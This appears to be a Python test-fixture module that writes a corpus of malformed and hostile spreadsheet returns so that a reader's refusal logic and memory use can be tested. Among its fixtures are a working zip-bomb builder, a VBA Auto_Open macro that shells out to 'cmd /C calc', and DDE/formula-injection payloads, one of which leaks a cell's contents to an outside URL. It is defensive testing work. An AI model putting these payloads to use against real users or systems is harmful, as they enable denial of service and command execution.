"""Builders of hostile and broken returns, written into a folder on demand (no binary blobs in the repository).

`write_xlsx` writes a minimal workbook part by part, so a test controls what openpyxl would refuse or
normalise: cached formula values, control characters, hidden states, merges, DTDs, a VBA part, 100,000 rows.
Each `build_*` function writes one item of the corpus and returns its path.
"""

from __future__ import annotations

import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from xml.sax.saxutils import escape

from xl_toolkit.io.archive_guard import UnreadableReturn
from xl_toolkit.io.return_reader import read_return
from xl_toolkit.returns_parsing import column_letter

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
_XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
_SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

#: Cell values that a spreadsheet would run, as the issue lists them.
INJECTION_PAYLOADS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://example.com/x?leak="&A1,"点击查看")', "@SUM(1+1)*cmd|' /C calc'!A0",
                      "+1+1", "-1+1")
#: Text with control characters (BEL, ESC, vertical tab), a zero-width space, and emoji.
ODD_TEXT = "按计划推进\x07，已完成\x1b调研\x0b。\u200b进展顺利🎉👍"
#: Over Excel's 32,767-character cell limit.
LONG_TEXT = "详细进展说明。" * 6000


@dataclass(frozen=True)
class Formula:
    """A formula cell with the value Excel cached for it."""

    formula: str
    cached: object


@dataclass
class Sheet:
    """One sheet to write: rows from A1; `hidden_rows` 1-based; `merged` as A1-style ranges."""

    name: str
    rows: Sequence[Sequence[object]]
    hidden: bool = False
    hidden_rows: Iterable[int] = ()
    merged: Sequence[str] = ()
    prolog: str = ""
    extra_rows: Iterable[str] = field(default_factory=tuple)


def write_xlsx(path: Path, sheets: Sequence[Sheet], *, parts: Mapping[str, bytes] | None = None,
               macro_enabled: bool = False) -> Path:
    """A minimal workbook written part by part (inline strings, cached formula values); `parts` adds raw parts."""
    path.parent.mkdir(parents=True, exist_ok=True)
    overrides = "".join(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="{_SHEET_TYPE}"/>'
                        for i in range(1, len(sheets) + 1))
    bin_default = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if parts else ""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Default Extension="xml" ContentType="application/xml"/>{bin_default}'
            f'<Override PartName="/xl/workbook.xml" ContentType="{_XLSM_MAIN if macro_enabled else _XLSX_MAIN}"/>'
            f"{overrides}</Types>"))
        archive.writestr("_rels/.rels", (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG_REL}">'
            f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'))
        entries = "".join(
            f'<sheet name="{escape(s.name, {chr(34): "&quot;"})}" sheetId="{i}" r:id="rId{i}"'
            f'{" state=" + chr(34) + "hidden" + chr(34) if s.hidden else ""}/>'
            for i, s in enumerate(sheets, start=1))
        archive.writestr("xl/workbook.xml", (
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{_MAIN}" xmlns:r="{_REL}">'
            f"<sheets>{entries}</sheets></workbook>"))
        rels = "".join(f'<Relationship Id="rId{i}" Type="{_REL}/worksheet" Target="worksheets/sheet{i}.xml"/>'
                       for i in range(1, len(sheets) + 1))
        if parts and "xl/vbaProject.bin" in parts:
            rels += '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
        archive.writestr("xl/_rels/workbook.xml.rels",
                         f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PKG_REL}">{rels}</Relationships>')
        for i, sheet in enumerate(sheets, start=1):
            with archive.open(f"xl/worksheets/sheet{i}.xml", "w") as stream:
                for piece in _sheet_xml(sheet):
                    stream.write(piece.encode("utf-8"))
        for name, data in (parts or {}).items():
            archive.writestr(name, data)
    return path


def _sheet_xml(sheet: Sheet) -> Iterable[str]:
    hidden = set(sheet.hidden_rows)
    yield f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{sheet.prolog}<worksheet xmlns="{_MAIN}"><sheetData>'
    for r, values in enumerate(sheet.rows, start=1):
        cells = "".join(_cell(f"{column_letter(c)}{r}", v) for c, v in enumerate(values, start=1) if v is not None)
        yield f'<row r="{r}"{" hidden=" + chr(34) + "1" + chr(34) if r in hidden else ""}>{cells}</row>'
    yield from sheet.extra_rows
    yield "</sheetData>"
    if sheet.merged:
        yield f'<mergeCells count="{len(sheet.merged)}">' + "".join(
            f'<mergeCell ref="{ref}"/>' for ref in sheet.merged) + "</mergeCells>"
    yield "</worksheet>"


def _cell(ref: str, value: object) -> str:
    if isinstance(value, Formula):
        cached = value.cached
        kind = ' t="str"' if isinstance(cached, str) else ""
        return f'<c r="{ref}"{kind}><f>{escape(value.formula)}</f><v>{_text(cached)}</v></c>'
    if isinstance(value, bool | int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{_text(value)}</t></is></c>'


def _text(value: object) -> str:
    """XML text; characters XML 1.0 cannot carry are written as OOXML escapes (_x0007_), as Excel does."""
    return "".join(f"_x{ord(ch):04X}_" if ord(ch) < 32 and ch not in "\t\n\r" else ch for ch in escape(str(value)))


# --- the corpus ---------------------------------------------------------------------------------------------


def build_truncated_zip(directory: Path, rows: Sequence[Sequence[object]], unit: str) -> Path:
    """A real return cut in half, as an interrupted download leaves it."""
    path = write_xlsx(directory / f"{unit}_截断.xlsx", [Sheet("任务进展", rows)])
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
    return path


def build_zip_not_a_workbook(directory: Path) -> Path:
    """A zip (a Word document) saved with an .xlsx name."""
    path = directory / "会议纪要.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return path


def _ole(*streams: str) -> bytes:
    """An OLE2 compound file as far as detection goes: the header, then directory entries with these names."""
    entries = b"".join(name.encode("utf-16-le").ljust(64, b"\0") + struct.pack("<H", 2 * len(name) + 2) + b"\0" * 62
                       for name in ("Root Entry", *streams))
    return OLE_MAGIC + b"\0" * 504 + entries.ljust(512 * 4, b"\0")


def build_legacy_xls(directory: Path) -> Path:
    """An Excel 97-2003 workbook (OLE2 with a Workbook stream)."""
    path = directory / "2026年 商务部 进展.xls"
    path.write_bytes(_ole("Workbook", "\x05SummaryInformation"))
    return path


def build_encrypted_xlsx(directory: Path) -> Path:
    """A password-protected xlsx: Office wraps it in OLE2 with EncryptionInfo and EncryptedPackage streams."""
    path = directory / "加密_报送表.xlsx"
    path.write_bytes(_ole("EncryptionInfo", "EncryptedPackage", "\x06DataSpaces"))
    return path


VBA_SOURCE = b'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\n    Shell "cmd /C calc"\r\nEnd Sub\r\n'


def build_xlsm_with_vba(directory: Path, rows: Sequence[Sequence[object]], unit: str) -> Path:
    """A macro-enabled return whose VBA project would start a program on open."""
    return write_xlsx(directory / f"{unit}_进展（含宏）.xlsm", [Sheet("任务进展", rows)],
                      parts={"xl/vbaProject.bin": OLE_MAGIC + b"\0" * 504 + VBA_SOURCE}, macro_enabled=True)


def build_large_sheet(directory: Path, rows: Sequence[Sequence[object]], unit: str, count: int = 100_000) -> Path:
    """A return whose sheet runs on for `count` rows below the real ones (written straight as XML)."""
    start = len(rows) + 1
    extra = (f'<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="G{r}" t="inlineStr"><is><t>推进中</t></is></c></row>'
             for r in range(start, start + count))
    return write_xlsx(directory / f"{unit}_十万行.xlsx", [Sheet("任务进展", rows, extra_rows=extra)])


def zip_with_raw_member(path: Path, name: str, raw: bytes, *, crc: int, size: int, method: int = 8) -> Path:
    """A zip with one member written byte by byte (local header, data, central directory), as crafted."""
    encoded = name.encode()
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0, crc, len(raw), size, len(encoded), 0)
    central = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, method, 0, 0, crc, len(raw), size, len(encoded),
                          0, 0, 0, 0, 0, 0)
    offset = len(local) + len(encoded) + len(raw)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(central) + len(encoded), offset, 0)
    path.write_bytes(local + encoded + raw + central + encoded + end)
    return path


def deflated_spaces(megabytes: int) -> tuple[bytes, int]:
    """A raw deflate stream of `megabytes` MiB of spaces, built in milliseconds, and its CRC-32."""
    chunk = b" " * (1 << 20)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    middle = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(megabytes):
        crc = zlib.crc32(chunk, crc)
    return first + middle * (megabytes - 2) + packer.compress(chunk) + packer.flush(), crc


def build_zip_bomb(directory: Path, megabytes: int = 1024) -> Path:
    """A ~1 MB "workbook" whose sheet inflates to `megabytes` MiB (honest sizes and CRC: a real bomb)."""
    raw, crc = deflated_spaces(megabytes)
    return zip_with_raw_member(directory / "压缩炸弹.xlsx", "xl/worksheets/sheet1.xml", raw, crc=crc,
                               size=megabytes << 20)


def build_hidden_sheet_and_rows(directory: Path, rows: Sequence[Sequence[object]], unit: str,
                                hidden_row: int) -> Path:
    """A return with a hidden sheet of notes and one task row hidden."""
    return write_xlsx(directory / f"{unit}_隐藏.xlsx", [
        Sheet("任务进展", rows, hidden_rows=(hidden_row,)), Sheet("内部备注", [["仅供内部参考"]], hidden=True)])


def build_merged_cells(directory: Path, rows: Sequence[Sequence[object]], unit: str, column: str,
                       first: int) -> Path:
    """A return whose cells in `column` are merged across two task rows (the second row's value blank)."""
    index = ord(column) - 65
    rows = [list(r) for r in rows]
    rows[first][index] = None
    return write_xlsx(directory / f"{unit}_合并单元格.xlsx",
                      [Sheet("任务进展", rows, merged=(f"{column}{first}:{column}{first + 1}",))])


def build_formulas_everywhere(directory: Path, rows: Sequence[Sequence[object]], unit: str, first: int) -> Path:
    """A return where every filled cell below the header is a formula with its cached value."""
    rows = [list(r) if i < first - 1 else [Formula(f'"{v}"' if isinstance(v, str) else str(v), v)
                                          if v is not None else None for v in r]
            for i, r in enumerate(rows)]
    return write_xlsx(directory / f"{unit}_公式.xlsx", [Sheet("任务进展", rows)])


def build_odd_text(directory: Path, rows: Sequence[Sequence[object]], unit: str, first: int,
                   progress: int, problems: int) -> Path:
    """A return with control characters, zero-width spaces, emoji and over-long text in task rows."""
    rows = [list(r) for r in rows]
    rows[first - 1][progress] = ODD_TEXT
    rows[first - 1][problems] = LONG_TEXT
    rows[first - 1][0] = f"{rows[first - 1][0]:g}\u200b" if isinstance(rows[first - 1][0], float) else rows[first - 1][0]
    return write_xlsx(directory / f"{unit}_特殊字符🎉.xlsx", [Sheet("任务进展", rows)])


def build_odd_name(directory: Path, rows: Sequence[Sequence[object]], unit: str) -> Path:
    """A return under a name with Chinese, spaces and `..`."""
    return write_xlsx(directory / f"{unit} 2026年 进展 ..（终稿）..xlsx", [Sheet("任务进展", rows)])


def build_injection(directory: Path, rows: Sequence[Sequence[object]], unit: str, first: int,
                    columns: Sequence[int]) -> Path:
    """A return with the classic injection payloads as text in its task rows (one per row, in `columns`)."""
    rows = [list(r) for r in rows]
    for offset, payload in enumerate(INJECTION_PAYLOADS):
        row = rows[first - 1 + offset % (len(rows) - first + 1)]
        row[columns[offset % len(columns)]] = payload
    return write_xlsx(directory / f"{unit}_注入.xlsx", [Sheet("=cmd", rows)])


def refusal_and_peak(path: Path) -> tuple[UnreadableReturn, int]:
    """The error reading `path` is refused with, and the peak of memory traced while refusing it (bytes)."""
    tracemalloc.start()
    try:
        read_return(path)
    except UnreadableReturn as error:
        refused = error
    else:
        raise AssertionError(f"{path.name} was read, not refused")
    finally:
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    return refused, peak
